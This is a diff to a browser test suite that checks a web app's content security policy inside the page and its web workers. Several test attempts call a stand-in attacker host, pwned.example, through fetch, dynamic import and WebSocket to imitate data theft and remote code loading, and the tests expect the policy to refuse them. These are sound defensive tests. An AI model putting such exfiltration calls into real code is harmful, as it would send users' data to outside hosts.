@@ -395,11 +395,14 @@ describe('the content security policy', () => {
           },
           eval: () => (0, eval)('window.pwned = 1'),
           function: () => new Function('window.pwned = 1')(),
+          // One may be made, and obeys the same policy.
           worker: () =>
             new Promise((resolve, reject) => {
-              const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
-              worker.onmessage = resolve;
-              worker.onerror = () => reject(new Error('refused'));
+              const script = `fetch('https://pwned.example/steal').catch(() => (0, eval)('1')).then(
+                () => postMessage('done'), () => postMessage('refused'))`;
+              const worker = new Worker(URL.createObjectURL(new Blob([script])));
+              worker.onmessage = ({ data }) => resolve(data);
+              worker.onerror = reject;
             }),
           import() {
             const address = 'data:text/javascript,window.pwned = 1';
@@ -435,5 +438,67 @@ describe('the content security policy', () => {
     } finally {
       await context.close();
     }
+  });
+
+  it('holds in the workers, which get no header from the server', async () => {
+    const { context, page } = await visit('tune');
+    try {
+      await page.getByText('Choose a model first').first().waitFor();
+      await expect.poll(() => page.workers().length).toBe(2);
+      for (const worker of page.workers()) {
+        const outcome = await worker.evaluate(async () => {
+          const attempts: Record<string, () => unknown> = {
+            fetch: () => fetch('https://pwned.example/steal'),
+            import() {
+              const address = 'https://pwned.example/steal.js';
+              return import(/* @vite-ignore */ address);
+            },
+            socket: () =>
+              new Promise((resolve, reject) => {
+                const socket = new WebSocket('wss://pwned.example/steal');
+                socket.onopen = resolve;
+                socket.onerror = reject;
+              }),
+            eval: () => (0, eval)('1'),
+            own: () => fetch(new URL('/favicon.svg', location.origin))
+          };
+          // What is refused by the policy is said to the worker itself; what merely fails is not.
+          const refused: string[] = [];
+          addEventListener('securitypolicyviolation', (event) => {
+            refused.push(event.effectiveDirective);
+          });
+          const results: Record<string, string> = {};
+          for (const [name, attempt] of Object.entries(attempts)) {
+            results[name] = await new Promise<string>((resolve) => {
+              setTimeout(() => {
+                Promise.resolve()
+                  .then(attempt)
+                  .then(
+                    () => resolve('done'),
+                    () => resolve('refused')
+                  );
+              });
+            });
+          }
+          await new Promise((resolve) => setTimeout(resolve, 100));
+          return { results, refused };
+        });
+        expect(outcome.results).toEqual({
+          fetch: 'refused',
+          import: 'refused',
+          socket: 'refused',
+          eval: 'refused',
+          own: 'done'
+        });
+        expect(outcome.refused).toHaveLength(4);
+      }
+    } finally {
+      await context.close();
+    }
+  });
+
+  it('keeps other sites from showing the page in a frame', async () => {
+    const response = await fetch(inject('siteUrl'));
+    expect(response.headers.get('content-security-policy')).toBe("frame-ancestors 'none'");
   });
 });
